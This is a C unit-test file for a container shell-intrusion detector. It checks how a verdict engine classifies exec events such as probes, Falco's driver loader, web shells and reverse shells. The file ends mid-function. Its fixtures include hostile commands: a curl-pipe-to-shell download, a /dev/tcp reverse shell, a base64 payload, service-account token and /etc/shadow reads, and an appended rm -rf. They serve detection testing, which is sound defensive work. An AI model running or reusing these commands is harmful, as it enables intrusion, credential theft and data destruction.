/* SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause */
/*
 * The verdict and the safe tuning over a table of cases: the shipped
 * knowledge base matches real-shaped events, verdict_session() weighs them,
 * tuning_offer() decides the exception, and every offered exception is
 * loaded with the real rules loader next to the shipped rules to prove what
 * it silences and what it does not.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "report/kb.h"
#include "rules/rules.h"
#include "report/tuning.h"
#include "report/verdict.h"
#include "tmpdir.h"

#define KB_FILE "rules/knowledge_base.yaml"
#define RULES_FILE "rules/shellsentry_rules.yaml"
#define SEED_CMD "/usr/sbin/lsmod | cut -d' ' -f1 | grep -qx \"falco\""

#define R_SHELL "Detect Shell in Container"
#define R_PROBE "Shell probing for security tooling"
#define R_TERM "Terminal shell in container"
#define R_INJ "Shell injected into container"

/* Which fields the alert carries. */
enum knows {
	K_ALL,	    /* shellsentry's own alert: everything */
	K_FALCO,    /* Falco's JSON for its stock shell rule: no lineage, caps, stdio */
	K_CMD_ONLY, /* a hand-written alert: process name and command line */
};

struct cmd_spec {
	const char *argv[8];
	const char *parent;
	uint32_t tty;
	enum ss_lineage lineage;
	const char *user;
	const char *rules[4];
	enum priority prio;
	const char *stdin_type, *stdout_type, *peer;
	bool drift, fileless, not_shell, in_session;
	size_t step_of; /* 1 + the command that started it (its session's shell) */
};

struct where {
	const char *image_repo, *ns, *k8s_container, *name;
	enum knows knows;
};

struct built {
	struct exec_event ev;
	bool known[F_COUNT];
	struct kb_result kb;
};

static struct kb *kb;

static int group_setup(void **state)
{
	struct ss_error err;

	(void)state;
	if (kb_load(KB_FILE, &kb, &err)) {
		print_error("%s:%d:%d: %s\n", err.file, err.line, err.col, err.msg);
		return -1;
	}
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	kb_free(kb);
	return 0;
}

static const char *base(const char *path)
{
	const char *s = strrchr(path, '/');

	return s ? s + 1 : path;
}

static void set_known(struct built *b, enum knows k)
{
	static const enum field_id falco[] = {
		F_PROC_NAME,
		F_PROC_CMDLINE,
		F_PROC_PNAME,
		F_PROC_TTY,
		F_PROC_EXEPATH,
		F_USER_NAME,
		F_USER_UID,
		F_USER_LOGINUID,
		F_CONTAINER_ID,
		F_CONTAINER_NAME,
		F_CONTAINER_IMAGE_REPOSITORY,
		F_CONTAINER_IMAGE_TAG,
		F_K8S_NS_NAME,
		F_K8S_POD_NAME,
	};
	size_t i;

	for (i = 0; i < F_COUNT; i++)
		b->known[i] = k == K_ALL;
	if (k == K_FALCO)
		for (i = 0; i < sizeof(falco) / sizeof(falco[0]); i++)
			b->known[falco[i]] = true;
	if (k == K_CMD_ONLY)
		b->known[F_PROC_NAME] = b->known[F_PROC_CMDLINE] = b->known[F_CONTAINER_ID] = true;
}

/* An event as the daemon (K_ALL) or an alert (otherwise) describes it. */
static void build(struct built *b, const struct cmd_spec *c, const struct where *w)
{
	struct exec_event *ev = &b->ev;
	size_t clen;
	int i;

	memset(b, 0, sizeof(*b));
	ev->time_ns = 1700000000000000000ull;
	ev->pid = 4242;
	ev->vpid = 7;
	ev->loginuid = -1;
	ev->tty = c->tty;
	ev->lineage = c->lineage;
	snprintf(ev->comm, sizeof(ev->comm), "%s", base(c->argv[0]));
	snprintf(ev->exepath, sizeof(ev->exepath), "/usr/bin/%s", ev->comm);
	clen = (size_t)snprintf(ev->cmdline, sizeof(ev->cmdline), "%s", ev->comm);
	for (i = 1; c->argv[i]; i++)
		clen += (size_t)snprintf(ev->cmdline + clen, sizeof(ev->cmdline) - clen, " %s",
					 c->argv[i]);
	if (c->parent) {
		ev->ancestor_count = 1;
		snprintf(ev->ancestors[0].comm, sizeof(ev->ancestors[0].comm), "%s", c->parent);
		ev->ancestors[0].pid = 4000;
	}
	snprintf(ev->user_name, sizeof(ev->user_name), "%s", c->user ? c->user : "root");
	ev->uid = c->user && strcmp(c->user, "root") ? 33 : 0;
	if (c->drift)
		ev->flags |= SS_F_EXE_UPPER_LAYER;
	if (c->fileless)
		ev->flags |= SS_F_EXE_MEMFD;
	ev->container.is_container = true;
	snprintf(ev->container.id, sizeof(ev->container.id), "3ad7b26ded6d");
	snprintf(ev->container.image_repository, sizeof(ev->container.image_repository), "%s",
		 w->image_repo ? w->image_repo : "");
	snprintf(ev->container.pod_namespace, sizeof(ev->container.pod_namespace), "%s",
		 w->ns ? w->ns : "");
	snprintf(ev->container.k8s_container_name, sizeof(ev->container.k8s_container_name), "%s",
		 w->k8s_container ? w->k8s_container : "");
	snprintf(ev->container.name, sizeof(ev->container.name), "%s", w->name ? w->name : "");
	set_known(b, w->knows);
	/* an empty value is no value, as alert_known_mask() decides for real alerts */
	b->known[F_CONTAINER_IMAGE_REPOSITORY] &= w->image_repo != NULL;
	b->known[F_K8S_NS_NAME] &= w->ns != NULL;
	b->known[F_K8S_CONTAINER_NAME] &= w->k8s_container != NULL;
	b->known[F_CONTAINER_NAME] &= w->name != NULL;
	b->known[F_PROC_PNAME] &= c->parent != NULL;
	kb_match(kb, ev, b->known, &b->kb);
}

static void facts_of(struct verdict_facts *f, const struct built *b, const struct cmd_spec *c)
{
	size_t n = 0;

	memset(f, 0, sizeof(*f));
	f->cmdline = b->known[F_PROC_CMDLINE] ? b->ev.cmdline : NULL;
	f->kb = &b->kb;
	f->priority = c->rules[0] ? (int)c->prio : -1;
	while (n < 4 && c->rules[n])
		n++;
	f->rules = c->rules;
	f->n_rules = n;
	f->shell = c->not_shell ? TRI_FALSE : TRI_TRUE;
	f->in_session = c->in_session;
	f->tty = b->known[F_PROC_TTY] ? (c->tty ? TRI_TRUE : TRI_FALSE) : TRI_UNKNOWN;
	f->stdin_type = c->stdin_type;
	f->stdout_type = c->stdout_type;
	f->peer = c->peer;
	f->drift = b->known[F_EVT_ARG_FLAGS] ? (c->drift ? TRI_TRUE : TRI_FALSE) : TRI_UNKNOWN;
	f->fileless =
		b->known[F_EVT_ARG_FLAGS] ? (c->fileless ? TRI_TRUE : TRI_FALSE) : TRI_UNKNOWN;
	f->lineage = b->known[F_SS_LINEAGE] ? c->lineage : SS_LINEAGE_UNKNOWN;
	f->pname = b->known[F_PROC_PNAME] ? c->parent : NULL;
	f->step_of = c->step_of;
}

/* Everything one incident needs, for up to 4 commands. */
struct incident_case {
	struct built b[4];
	struct verdict_facts f[4];
	struct verdict_finding per[4];
	struct tuning_context ctx;
	struct verdict v;
	struct tuning_offer offer;
	size_t n;
	char headline[1024];
};

static struct incident_case *run(const struct where *w, const struct cmd_spec *cmds, size_t n)
{
	struct incident_case *ic = calloc(1, sizeof(*ic));
	struct mdbuf m;
	size_t i;

	assert_non_null(ic);
	assert_true(n <= 4);
	for (i = 0; i < n; i++) {
		build(&ic->b[i], &cmds[i], w);
		facts_of(&ic->f[i], &ic->b[i], &cmds[i]);
	}
	ic->n = n;
	ic->ctx.image_repository = w->image_repo;
	ic->ctx.ns = w->ns;
	ic->ctx.container_name = w->name;
	verdict_session(ic->f, n, &ic->v, ic->per);
	tuning_offer(&ic->v, ic->f, n, &ic->ctx, &ic->offer);
	mdbuf_init(&m, 0);
	verdict_headline(&ic->v, ic->f, &m);
	assert_int_equal(m.err, 0);
	snprintf(ic->headline, sizeof(ic->headline), "%s", mdbuf_str(&m));
	mdbuf_free(&m);
	return ic;
}

static const char *lead_id(const struct incident_case *ic)
{
	return ic->v.lead.pattern ? ic->v.lead.pattern->id : "";
}

#define assert_has(hay, needle)                                                                    \
	do {                                                                                       \
		if (!strstr((hay), (needle)))                                                      \
			fail_msg("'%s' not in '%s'", (needle), (hay));                             \
	} while (0)

/* Falco's driver loader in its init container: the seed in its real context. */
static const struct where loader_pod = {"falcosecurity/falco-driver-loader", "falco",
					"falco-driver-loader", "falco-driver-loader", K_ALL};
static const struct cmd_spec seed_cmd = {
	.argv = {"bash", "-c", SEED_CMD},
	.parent = "falcoctl",
	.lineage = SS_LINEAGE_INIT_TREE,
	.rules = {R_PROBE, R_SHELL},
	.prio = PRIO_WARNING,
	.stdin_type = "file",
	.stdout_type = "pipe",
};

static void test_seed_in_context_is_expected(void **state)
{
	struct incident_case *ic = run(&loader_pod, &seed_cmd, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_EXPECTED);
	assert_int_equal(ic->v.lead.reason, VR_VERIFIED);
	assert_string_equal(lead_id(ic), "falco-driver-loader-kmod-check");
	assert_has(ic->headline, "expected: Falco's driver loader");
	/* the rule's own severity is kept, not lowered */
	assert_int_equal(ic->v.priority, PRIO_WARNING);
	assert_int_equal(ic->v.trail, TRAIL_APPLICATION);
	assert_int_equal(ic->offer.refusal, TUNING_OFFERED);
	assert_true(ic->offer.fields[TF_IMAGE_REPOSITORY] && ic->offer.fields[TF_NAMESPACE] &&
		    ic->offer.fields[TF_CONTAINER_NAME] && ic->offer.fields[TF_PNAME] &&
		    ic->offer.fields[TF_CMDLINE] && ic->offer.fields[TF_TTY] &&
		    ic->offer.fields[TF_STDIN_TYPE] && ic->offer.fields[TF_STDOUT_TYPE]);
	assert_int_equal(ic->offer.n_rules, 2);
	free(ic);
}

static void test_seed_without_context_resembles(void **state)
{
	static const struct where nowhere = {.knows = K_CMD_ONLY};
	struct incident_case *ic = run(&nowhere, &seed_cmd, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_RESEMBLES);
	assert_int_equal(ic->v.lead.reason, VR_UNVERIFIED);
	assert_string_equal(lead_id(ic), "falco-driver-loader-kmod-check");
	assert_non_null(ic->v.lead.alternative);
	assert_string_equal(ic->v.lead.alternative->id, "security-tooling-discovery");
	assert_has(ic->headline, "resembles Falco's driver loader");
	assert_has(ic->headline, "unverified");
	assert_null(strstr(ic->headline, "expected"));
	assert_int_equal(ic->v.priority, PRIO_WARNING);
	assert_int_equal(ic->v.trail, TRAIL_UNKNOWN);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* The seed's command typed into a podman container: an imitation. */
static void test_seed_replayed_elsewhere_is_suspicious(void **state)
{
	static const struct where web = {"localhost/bb", NULL, NULL, "web-1", K_ALL};
	struct cmd_spec c = seed_cmd;
	struct incident_case *ic;

	(void)state;
	c.parent = "runc";
	c.lineage = SS_LINEAGE_INJECTED;
	ic = run(&web, &c, 1);
	assert_int_equal(ic->v.level, VERDICT_SUSPICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_CHECK_FAILS);
	assert_string_equal(lead_id(ic), "falco-driver-loader-kmod-check");
	/* the first failing check, named */
	assert_has(ic->headline, "suspicious: resembles Falco's driver loader");
	assert_has(ic->headline, "The container image is falcosecurity");
	assert_int_equal(ic->v.priority, PRIO_WARNING);
	assert_int_equal(ic->v.trail, TRAIL_EXEC);
	/* the discovery pattern is not explained away by a failed imitation */
	assert_true(ic->v.evidence & VERDICT_EVIDENCE(VR_SUSPICIOUS_PATTERN));
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* In the loader's own pod, but typed through kubectl exec -it: not the loader. */
static void test_seed_in_pod_interactive_is_suspicious(void **state)
{
	struct cmd_spec c = seed_cmd;
	struct incident_case *ic;

	(void)state;
	c.parent = "runc";
	c.lineage = SS_LINEAGE_INJECTED;
	c.tty = 34816;
	ic = run(&loader_pod, &c, 1);
	assert_int_equal(ic->v.level, VERDICT_SUSPICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_CHECK_FAILS);
	assert_has(ic->headline, "parent process is falcoctl");
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* Issue 17, case 1: Falco alert, tty 34816, parent runc, prod, nginx, apt-get install nmap. */
static void test_apt_install_nmap_with_tty(void **state)
{
	static const struct where prod = {"nginx", "prod", NULL, "web", K_FALCO};
	static const struct cmd_spec c = {
		.argv = {"sh", "-c", "apt-get update && apt-get install -y nmap socat"},
		.parent = "runc",
		.tty = 34816,
		.rules = {R_TERM},
		.prio = PRIO_NOTICE,
	};
	struct incident_case *ic = run(&prod, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_SUSPICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_CHECK_FAILS);
	assert_string_equal(lead_id(ic), "package-manager-in-build");
	assert_has(ic->headline, "No terminal is attached");
	assert_true(ic->v.evidence & VERDICT_EVIDENCE(VR_SUSPICIOUS_PATTERN));
	/* suspicious is at least Warning, above the Notice rule */
	assert_int_equal(ic->v.priority, PRIO_WARNING);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* Issue 17, case 3: podman exec -it web-1 sh. */
static void test_podman_exec_it_sh(void **state)
{
	static const struct where web = {"localhost/bb", NULL, NULL, "web-1", K_ALL};
	static const struct cmd_spec c = {
		.argv = {"sh"},
		.parent = "runc",
		.tty = 34816,
		.lineage = SS_LINEAGE_INJECTED,
		.rules = {R_TERM, R_SHELL, R_INJ},
		.prio = PRIO_NOTICE,
		.stdin_type = "file",
		.stdout_type = "file",
	};
	struct incident_case *ic = run(&web, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_REVIEW);
	assert_int_equal(ic->v.lead.reason, VR_NO_PATTERN);
	assert_string_equal(ic->headline, "no known pattern: review needed");
	assert_int_equal(ic->v.priority, PRIO_NOTICE);
	assert_int_equal(ic->v.trail, TRAIL_EXEC);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	assert_true(tuning_is_bare_shell("sh"));
	free(ic);
}

/* Issue 17, case 4: php-fpm running as www-data starts a shell. */
static void test_php_fpm_webshell(void **state)
{
	static const struct where php = {"php", "shop", "php", "php", K_ALL};
	static const struct cmd_spec c = {
		.argv = {"sh", "-c", "id; uname -a"},
		.parent = "php-fpm8.2",
		.lineage = SS_LINEAGE_INIT_TREE,
		.user = "www-data",
		.rules = {R_SHELL},
		.prio = PRIO_NOTICE,
		.stdin_type = "pipe",
		.stdout_type = "pipe",
	};
	struct incident_case *ic = run(&php, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_ATTACK_PATTERN);
	assert_string_equal(lead_id(ic), "shell-spawned-by-server");
	assert_has(ic->v.lead.pattern->advice, "application's logs");
	assert_has(ic->headline, "malicious-indicator: Shell started by a server process");
	assert_int_equal(ic->v.priority, PRIO_CRITICAL);
	/* the trail is the application, not pods/exec */
	assert_int_equal(ic->v.trail, TRAIL_APPLICATION);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* The same from Falco's JSON: no lineage, still the server parent. */
static void test_php_fpm_webshell_falco_alert(void **state)
{
	static const struct where php = {"php", "shop", NULL, "php", K_FALCO};
	static const struct cmd_spec c = {
		.argv = {"sh", "-c", "whoami"},
		.parent = "php-fpm",
		.rules = {R_SHELL},
		.prio = PRIO_NOTICE,
	};
	struct incident_case *ic = run(&php, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_string_equal(lead_id(ic), "shell-spawned-by-server");
	free(ic);
}

static const struct where app = {"shop/api", "prod", "api", "api", K_ALL};

/* A spawned `sh -i` with a TCP socket on its stdio: no telling command line. */
static void test_reverse_shell_by_stdio(void **state)
{
	static const struct cmd_spec c = {
		.argv = {"sh", "-i"},
		.parent = "revsh",
		.lineage = SS_LINEAGE_INIT_TREE,
		.rules = {R_SHELL},
		.prio = PRIO_NOTICE,
		.stdin_type = "ipv4",
		.stdout_type = "ipv4",
		.peer = "198.51.100.7:4444",
	};
	struct incident_case *ic = run(&app, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_NETWORK_STDIO);
	assert_has(ic->headline, "network connection");
	assert_has(ic->headline, "`198.51.100.7:4444`");
	assert_int_equal(ic->v.priority, PRIO_CRITICAL);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* Network stdio outranks a verified benign resemblance: the loader's command over a socket. */
static void test_network_stdio_outranks_expected(void **state)
{
	struct cmd_spec c = seed_cmd;
	struct incident_case *ic;

	(void)state;
	c.stdin_type = "ipv6";
	c.stdout_type = "ipv6";
	c.peer = "[2001:db8::7]:443";
	ic = run(&loader_pod, &c, 1);
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_NETWORK_STDIO);
	assert_true(ic->v.evidence & VERDICT_EVIDENCE(VR_VERIFIED));
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* A server that puts its socket on stdio and execs a non-shell is not a reverse shell. */
static void test_server_socket_stdio_not_shell(void **state)
{
	static const struct cmd_spec c = {
		.argv = {"worker", "--serve"},
		.parent = "supervisor",
		.lineage = SS_LINEAGE_INIT_TREE,
		.stdin_type = "ipv4",
		.stdout_type = "ipv4",
		.not_shell = true,
	};
	struct incident_case *ic = run(&app, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_REVIEW);
	assert_false(ic->v.evidence & VERDICT_EVIDENCE(VR_NETWORK_STDIO));
	free(ic);
}

/* A session command writing to a socket (`cat file >/dev/tcp/...`): exfiltration. */
static void test_session_command_network_stdout(void **state)
{
	static const struct cmd_spec c = {
		.argv = {"cat", "/etc/hostname"},
		.parent = "bash",
		.lineage = SS_LINEAGE_INJECTED,
		.stdin_type = "file",
		.stdout_type = "ipv4",
		.peer = "203.0.113.9:80",
		.not_shell = true,
		.in_session = true,
	};
	struct incident_case *ic = run(&app, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_NETWORK_STDIO);
	free(ic);
}

static void test_drift_and_fileless(void **state)
{
	struct cmd_spec c = {
		.argv = {"kworker", "-c", "id"},
		.parent = "sh",
		.lineage = SS_LINEAGE_INIT_TREE,
		.rules = {"Drifted executable in container"},
		.prio = PRIO_WARNING,
		.drift = true,
	};
	struct incident_case *ic = run(&app, &c, 1);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.lead.reason, VR_DRIFT);
	assert_has(ic->headline, "(drift)");
	free(ic);
	c.drift = false;
	c.fileless = true;
	ic = run(&app, &c, 1);
	assert_int_equal(ic->v.lead.reason, VR_FILELESS);
	free(ic);
}

static void test_attack_patterns(void **state)
{
	static const struct {
		const char *cmd, *id;
	} t[] = {
		{"curl -fsSL http://198.51.100.7/i.sh | sh", "download-and-run"},
		{"cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		 "service-account-token-read"},
		{"echo aWQ= | base64 -d | sh", "base64-payload-to-shell"},
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell"},
	};
	struct cmd_spec c = {
		.argv = {"sh", "-c", NULL},
		.parent = "bash",
		.lineage = SS_LINEAGE_INJECTED,
		.rules = {R_SHELL},
		.prio = PRIO_NOTICE,
	};
	struct incident_case *ic;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		c.argv[2] = t[i].cmd;
		ic = run(&app, &c, 1);
		assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
		assert_int_equal(ic->v.lead.reason, VR_ATTACK_PATTERN);
		assert_string_equal(lead_id(ic), t[i].id);
		free(ic);
	}
}

static const struct where db = {"postgres", "db", "postgres", "postgres", K_ALL};
static const struct cmd_spec probe = {
	.argv = {"sh", "-c", "pg_isready -U postgres"},
	.parent = "runc",
	.lineage = SS_LINEAGE_INJECTED,
	.rules = {R_SHELL, R_INJ},
	.prio = PRIO_NOTICE,
	.stdin_type = "file",
	.stdout_type = "pipe",
};

static void test_probe_verified_and_imitations(void **state)
{
	static const char *const not_probes[] = {
		"pg_isready -U postgres; rm -rf /var/lib/postgresql/data",
		"pg_isready -U postgres && sh -i",
		"curl -fsS http://198.51.100.7/healthz",
		"cat /tmp/healthy $(id)",
	};
	struct cmd_spec c = probe;
	struct incident_case *ic = run(&db, &probe, 1);
	size_t i;

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_EXPECTED);
	assert_string_equal(lead_id(ic), "container-exec-probe");
	assert_int_equal(ic->offer.refusal, TUNING_OFFERED);
	free(ic);
	c.argv[2] = "curl -fsS http://localhost:8080/healthz || exit 1";
	ic = run(&db, &c, 1);
	assert_int_equal(ic->v.level, VERDICT_EXPECTED);
	free(ic);
	/* a probe's start with anything appended is no probe */
	for (i = 0; i < sizeof(not_probes) / sizeof(not_probes[0]); i++) {
		c.argv[2] = not_probes[i];
		ic = run(&db, &c, 1);
		assert_int_not_equal(ic->v.level, VERDICT_EXPECTED);
		assert_int_not_equal(ic->v.level, VERDICT_RESEMBLES);
		free(ic);
	}
	/* by hand in a terminal: the probe's own checks fail */
	c = probe;
	c.tty = 34816;
	ic = run(&db, &c, 1);
	assert_int_not_equal(ic->v.level, VERDICT_EXPECTED);
	free(ic);
}

static void test_step_in_script(void **state)
{
	(void)state;
	assert_true(
		verdict_step_in_script("pg_isready -U postgres", "sh -c pg_isready -U postgres"));
	assert_true(verdict_step_in_script("lsmod", "bash -c " SEED_CMD));
	assert_true(verdict_step_in_script("cut -d   -f1", "bash -c " SEED_CMD));
	assert_true(verdict_step_in_script("grep -qx falco", "bash -c " SEED_CMD));
	assert_true(verdict_step_in_script("true web-1", "sh -c true web-1"));
	/* the script itself, a word cut in two, more than the script says, nothing */
	assert_false(verdict_step_in_script("sh -c true", "sh -c true"));
	assert_false(verdict_step_in_script("isready -U postgres", "sh -c pg_isready -U postgres"));
	assert_false(verdict_step_in_script("pg_isready -U post", "sh -c pg_isready -U postgres"));
	assert_false(verdict_step_in_script("id", "sh -c idle"));
	assert_false(verdict_step_in_script("sh -i", "sh -c pg_isready -U postgres"));
	assert_false(verdict_step_in_script("", "sh -c x"));
	assert_false(verdict_step_in_script(NULL, "sh -c x"));
	assert_false(verdict_step_in_script("pg_isready", "sh -c /opt/pg_isready/bin/x"));
}

/*
 * A verified probe's shell and what it ran: the program its command line
 * names is a step of it, expected with it; anything else it ran, or a step
 * with evidence of its own, is judged on its own.
 */
static void test_probe_session_steps(void **state)
{
	struct cmd_spec cmds[2] = {probe,
				   {.argv = {"pg_isready", "-U", "postgres"},
				    .parent = "runc",
				    .lineage = SS_LINEAGE_INJECTED,
				    .rules = {"Command in container shell session"},
				    .prio = PRIO_INFORMATIONAL,
				    .stdin_type = "file",
				    .stdout_type = "pipe",
				    .not_shell = true,
				    .in_session = true,
				    .step_of = 1}};
	struct incident_case *ic;

	(void)state;
	cmds[0].in_session = true;
	ic = run(&db, cmds, 2);
	assert_int_equal(ic->v.level, VERDICT_EXPECTED);
	assert_int_equal(ic->v.lead.reason, VR_VERIFIED);
	assert_int_equal(ic->v.lead_cmd, 0);
	assert_int_equal(ic->per[1].reason, VR_STEP);
	assert_int_equal(ic->per[1].of, 0);
	assert_string_equal(ic->per[1].pattern->id, "container-exec-probe");
	assert_int_equal(ic->offer.refusal, TUNING_OFFERED);
	/* the shell's rules and the step's: each row its exact command line */
	assert_int_equal(ic->offer.n_rules, 3);
	free(ic);
	/* something the probe's command line does not say */
	cmds[1].argv[0] = "cat";
	cmds[1].argv[1] = "/etc/hostname";
	cmds[1].argv[2] = NULL;
	ic = run(&db, cmds, 2);
	assert_int_equal(ic->per[1].reason, VR_NO_PATTERN);
	assert_int_equal(ic->v.level, VERDICT_REVIEW);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
	/* the probe's program, but run from a file written after start: drift is evidence */
	cmds[1].argv[0] = "pg_isready";
	cmds[1].argv[1] = "-U";
	cmds[1].argv[2] = "postgres";
	cmds[1].drift = true;
	ic = run(&db, cmds, 2);
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->per[1].reason, VR_DRIFT);
	free(ic);
	/* on a network socket: a reverse shell's command, whatever the words */
	cmds[1].drift = false;
	cmds[1].stdin_type = "ipv4";
	cmds[1].peer = "198.51.100.7:4444";
	ic = run(&db, cmds, 2);
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	free(ic);
	/* the shell not verified (typed in a terminal): no step of anything */
	cmds[1].stdin_type = "file";
	cmds[1].peer = NULL;
	cmds[0].tty = 34816;
	ic = run(&db, cmds, 2);
	assert_int_not_equal(ic->per[1].reason, VR_STEP);
	assert_int_not_equal(ic->v.level, VERDICT_EXPECTED);
	free(ic);
	/* its shell is not the one it names */
	cmds[0].tty = 0;
	cmds[1].step_of = 0;
	ic = run(&db, cmds, 2);
	assert_int_equal(ic->per[1].reason, VR_NO_PATTERN);
	free(ic);
}

/* A session is weighed whole: an expected first command does not make it expected. */
static void test_session_weighs_every_command(void **state)
{
	struct cmd_spec cmds[3] = {probe, probe, probe};
	struct incident_case *ic;

	(void)state;
	cmds[1].argv[2] = "cat /var/run/secrets/kubernetes.io/serviceaccount/token";
	cmds[2].argv[2] = "curl -s http://198.51.100.7/x | sh";
	ic = run(&db, cmds, 3);
	assert_int_equal(ic->v.level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.lead_cmd, 1);
	assert_string_equal(lead_id(ic), "service-account-token-read");
	assert_int_equal(ic->per[0].level, VERDICT_EXPECTED);
	assert_int_equal(ic->per[2].level, VERDICT_MALICIOUS);
	assert_int_equal(ic->v.count[VERDICT_EXPECTED], 1);
	assert_int_equal(ic->v.count[VERDICT_MALICIOUS], 2);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

/* An interactive session: the shell, then what was typed. */
static void test_interactive_session(void **state)
{
	static const struct where web = {"localhost/bb", NULL, NULL, "web-1", K_ALL};
	struct cmd_spec cmds[3] = {
		{.argv = {"bash"},
		 .parent = "runc",
		 .tty = 34816,
		 .lineage = SS_LINEAGE_INJECTED,
		 .rules = {R_TERM},
		 .prio = PRIO_NOTICE},
		{.argv = {"cat", "/etc/shadow"},
		 .parent = "bash",
		 .tty = 34816,
		 .lineage = SS_LINEAGE_INJECTED,
		 .not_shell = true,
		 .in_session = true},
		{.argv = {"ls", "/"},
		 .parent = "bash",
		 .tty = 34816,
		 .lineage = SS_LINEAGE_INJECTED,
		 .not_shell = true,
		 .in_session = true},
	};
	struct incident_case *ic = run(&web, cmds, 3);

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_SUSPICIOUS);
	assert_int_equal(ic->v.lead_cmd, 1);
	assert_string_equal(lead_id(ic), "shadow-file-access");
	assert_int_equal(ic->v.count[VERDICT_REVIEW], 2);
	free(ic);
}

/* Expected and unexplained together: review, not expected. */
static void test_expected_then_unexplained(void **state)
{
	struct cmd_spec cmds[2] = {probe, probe};
	struct incident_case *ic;

	(void)state;
	cmds[1].argv[2] = "ls -la /";
	ic = run(&db, cmds, 2);
	assert_int_equal(ic->v.level, VERDICT_REVIEW);
	assert_int_equal(ic->v.lead_cmd, 1);
	assert_int_equal(ic->offer.refusal, TUNING_NOT_VERIFIED);
	free(ic);
}

static void test_empty_and_no_kb(void **state)
{
	struct verdict v;
	struct verdict_facts f = {.cmdline = "sh -c true", .priority = PRIO_NOTICE};

	(void)state;
	verdict_session(NULL, 0, &v, NULL);
	assert_int_equal(v.level, VERDICT_REVIEW);
	verdict_session(&f, 1, &v, NULL);
	assert_int_equal(v.level, VERDICT_REVIEW);
	assert_int_equal(v.priority, PRIO_NOTICE);
}

/* A benign pattern that no check can verify stays a resemblance. */
static void test_pattern_without_decidable_checks(void **state)
{
	static const char yaml[] =
		"- pattern: hand-checked\n  title: Checked by hand only\n  verdict: expected\n"
		"  condition: proc.cmdline = \"sh -c make\"\n  evidence: e\n"
		"  confirm:\n    - check: Ask the owner\n"
		"- pattern: unchecked\n  title: No checks\n  verdict: expected\n"
		"  condition: proc.cmdline = \"sh -c make all\"\n  evidence: e\n";
	struct kb *k;
	struct ss_error err;
	struct exec_event *ev = calloc(1, sizeof(*ev));
	struct kb_result r;
	struct verdict_facts f = {.priority = PRIO_NOTICE, .kb = &r};
	struct verdict v;

	(void)state;
	assert_non_null(ev);
	assert_int_equal(kb_load_buffer(yaml, strlen(yaml), "t.yaml", &k, &err), 0);
	snprintf(ev->cmdline, sizeof(ev->cmdline), "sh -c make");
	kb_match(k, ev, NULL, &r);
	assert_int_equal(r.n_matched, 1);
	verdict_session(&f, 1, &v, NULL);
	assert_int_equal(v.level, VERDICT_RESEMBLES);
	snprintf(ev->cmdline, sizeof(ev->cmdline), "sh -c make all");
	kb_match(k, ev, NULL, &r);
	assert_int_equal(r.n_matched, 1);
	verdict_session(&f, 1, &v, NULL);
	assert_int_equal(v.level, VERDICT_RESEMBLES);
	assert_int_equal(v.priority, PRIO_NOTICE);
	kb_free(k);
	free(ev);
}

/* Reports name the knowledge base by its real path, not build/../rules/... */
static void test_kb_source_is_real_path(void **state)
{
	struct kb *k;
	struct ss_error err;

	(void)state;
	assert_int_equal(kb_load("rules/../rules/knowledge_base.yaml", &k, &err), 0);
	assert_null(strstr(kb_source(k), "/../"));
	assert_non_null(strstr(kb_source(k), "/rules/knowledge_base.yaml"));
	assert_int_equal(kb_source(k)[0], '/');
	kb_free(k);
}

/* Defence in depth: the offer refuses unsafe facts even under an expected verdict. */
static void test_tuning_refusals(void **state)
{
	struct incident_case *ic = run(&loader_pod, &seed_cmd, 1);
	struct verdict_facts f = ic->f[0];
	struct tuning_context ctx = ic->ctx;
	struct tuning_offer o;

	(void)state;
	assert_int_equal(ic->v.level, VERDICT_EXPECTED);
	f.tty = TRI_TRUE;
	tuning_offer(&ic->v, &f, 1, &ctx, &o);
